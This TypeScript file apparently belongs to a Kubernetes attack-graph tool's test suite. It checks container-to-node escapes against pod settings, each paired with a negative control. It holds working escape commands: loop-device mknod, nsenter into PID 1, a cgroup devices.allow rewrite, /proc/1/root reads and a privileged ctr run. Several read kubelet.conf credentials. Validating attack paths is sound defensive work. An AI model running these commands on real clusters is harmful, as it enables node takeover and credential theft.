/** Ways out of a container onto its node, by what its pod is allowed. */
import type { PlainObject } from '../../../../src/graph/family.ts';
import type { Attack } from '../attack.ts';
import { onDisk } from '../disk.ts';
import { box, boxPod } from '../objects.ts';
import { type Place, type TriedFamily, type Way, way } from '../way.ts';

const KUBECONFIG = '/etc/kubernetes/kubelet.conf';
const ADD = (...add: string[]): PlainObject => ({ securityContext: { capabilities: { add } } });
const PRIVILEGED = { securityContext: { privileged: true } };

export const family: TriedFamily = {
  ways: [
    out('ESC_PRIVILEGED', 'Node', {
      pod: [{}, PRIVILEGED],
      take: (attack) => onDisk(attack, ({ number }) => attack.run(`mknod /tmp/disk b 7 ${number}; cat /tmp/disk`)),
      nearest: { because: 'it has the devices of a container', pod: [{}], refusal: /Operation not permitted/ },
    }),
    out('ESC_NSENTER', 'Node', {
      pod: [{ hostPID: true }, PRIVILEGED],
      take: async (attack) => attack.finds(await attack.run(`nsenter -t 1 -m -- cat ${KUBECONFIG}`), 'client-key-data'),
      nearest: { because: 'entering a process takes privileges', pod: [{ hostPID: true }], refusal: /nsenter: .*(?:denied|permitted)/i },
    }),
    out('ESC_SYS_ADMIN', 'Node', {
      pod: [{}, ADD('SYS_ADMIN')],
      take: (attack) => onDisk(attack, ({ number }) => attack.run(allowDevices(number))),
      nearest: { because: 'mounting takes the capability', pod: [{}, ADD('SYS_TIME')], refusal: /mount: permission denied|not permitted/ },
    }),
    out('ESC_SYS_PTRACE', 'Node', {
      pod: [{ hostPID: true }, ADD('SYS_PTRACE')],
      take: async (attack) => attack.finds(await attack.run(`cat /proc/1/root${KUBECONFIG}`), 'client-key-data'),
      nearest: { because: 'others are not looked into without it', pod: [{ hostPID: true }], refusal: /Permission denied/ },
    }),
    way({
      edge: 'ESC_RUNTIME_SOCKET',
      nodes: true,
      from: inside,
      to: () => 'Node/node1',
      world: (place) => [withRuntime(place, '/run/containerd')],
      take: startContainer,
      nearest: {
        because: 'the folder holds no socket of a runtime',
        world: (place) => [withRuntime(place, '/run/castellan-empty')],
        refusal: /no such file|connection refused|failed to dial/,
      },
    }),
    out('ESC_HOSTNETWORK', 'Network', {
      pod: [{ hostNetwork: true }],
      take: async (attack) => attack.finds(await attack.run('timeout 3 wget -qO- http://127.0.0.1:10248/healthz'), 'ok'),
      nearest: { because: 'the pod has a network of its own', pod: [{}], refusal: /refused/ },
    }),
    out('ESC_HOSTPID', 'HostProcess', {
      pod: [{ hostPID: true }],
      take: async (attack) =>
        attack.finds(await attack.run('cat /proc/[0-9]*/cmdline | tr "\\0" " "'), '--kubeconfig=/etc/kubernetes/kubelet.conf'),
      nearest: { because: 'it sees its own processes', pod: [{}], refusal: /the word is not in/ },
    }),
    out('ESC_HOSTIPC', 'HostProcess', {
      pod: [{ hostIPC: true }],
      take: sharedMemory,
      nearest: { because: 'the pod has shared memory of its own', pod: [{}], refusal: /No such file/ },
    }),
    way({
      edge: 'ESC_SHARED_PID',
      nodes: true,
      from: inside,
      to: ({ ns }) => `Container/${ns}/p/d`,
      world: (place) => [twoContainers(place, { shareProcessNamespace: true })],
      take: async (attack) => attack.finds(await attack.run('cat /proc/[0-9]*/environ')),
      nearest: {
        because: 'each container sees its own processes',
        world: (place) => [twoContainers(place, {})],
        refusal: /the word is not in/,
      },
    }),
    way({
      edge: 'ESC_NET_RAW_MITM',
      nodes: true,
      from: inside,
      to: () => 'TrafficIntercept/node1',
      world: ({ ns }) => [boxPod(`${ns}/p`, { hostNetwork: true }, ADD('NET_ADMIN'))],
      take: async (attack) => {
        await attack.run('ip address add 198.51.100.251/32 dev lo && ip address del 198.51.100.251/32 dev lo');
      },
      nearest: {
        because: 'the capability is missing',
        world: ({ ns }) => [boxPod(`${ns}/p`, { hostNetwork: true })],
        refusal: /Operation not permitted/,
      },
    }),
  ],
  untried: {
    ESC_SYS_MODULE: "it would load a module into the machine's own kernel",
    ESC_DAC_READ_SEARCH: 'no program of the images opens files by their handles',
    ESC_SYS_RAWIO_BPF: "it would read the machine's own memory",
    ESC_WINDOWS_HOSTPROCESS: 'it takes a Windows node',
  },
};

type Spec = readonly [spec: PlainObject, container?: PlainObject];

interface Out {
  pod: Spec;
  take: Way['take'];
  nearest: { because: string; pod: Spec; refusal: RegExp };
}

/** From the container of one pod. */
function out(edge: string, what: string, { pod, take, nearest }: Out): Way {
  const world =
    ([spec, container]: Spec) =>
    ({ ns }: Place): PlainObject[] => [boxPod(`${ns}/p`, spec, container)];
  const { because, refusal } = nearest;
  return way({
    edge,
    nodes: true,
    from: inside,
    to: () => `${what}/node1`,
    world: world(pod),
    take,
    nearest: { because, refusal, world: world(nearest.pod) },
  });
}

function inside({ ns }: Place): string {
  return `Container/${ns}/p/c`;
}

/** Who may mount sees the groups that say which devices a container may open, and lets itself open all. */
function allowDevices(number: number): string {
  return [
    'mkdir -p /tmp/groups && mount -t cgroup -o devices none /tmp/groups',
    'own=$(sed -n "s/^.*:devices://p" /proc/self/cgroup)',
    'echo a > "/tmp/groups$own/devices.allow"',
    `mknod /tmp/disk b 7 ${number} && cat /tmp/disk`,
  ].join(' && ');
}

/** The attacker brings the runtime's own client, and a program to run on the node. It meets the runtime's pipes only where they have the same path. */
function withRuntime({ ns, tools }: Place, folder: string): PlainObject {
  const volumes = [
    { name: 'run', hostPath: { path: folder } },
    { name: 'tools', hostPath: { path: tools } },
  ];
  const volumeMounts = [
    { name: 'run', mountPath: '/run/containerd' },
    { name: 'tools', mountPath: '/tools', readOnly: true },
  ];
  return boxPod(`${ns}/p`, { volumes }, { volumeMounts });
}

async function startContainer(attack: Attack): Promise<void> {
  const { ns, place } = attack;
  const mount = '--mount type=bind,src=/etc/kubernetes,dst=/host,options=rbind:ro';
  const run = `ctr -n k8s.io run --rm --privileged ${mount} --rootfs ${place.tools} ${ns} /busybox cat /host/kubelet.conf`;
  const said = await attack.run(`timeout 20 /tools/${run}`);
  attack.finds(said, 'client-key-data');
}

async function sharedMemory(attack: Attack): Promise<void> {
  const file = `/dev/shm/${attack.ns}`;
  await attack.cluster.onNode('node1', ['sh', '-c', `echo "${attack.place.word}" > ${file}`]);
  try {
    attack.finds(await attack.run(`cat ${file}`));
  } finally {
    await attack.cluster.onNode('node1', ['rm', file]);
  }
}

function twoContainers({ ns, word }: Place, spec: PlainObject): PlainObject {
  return boxPod(`${ns}/p`, { containers: [box('c'), box('d', { env: [{ name: 'WORD', value: word }] })], ...spec });
}
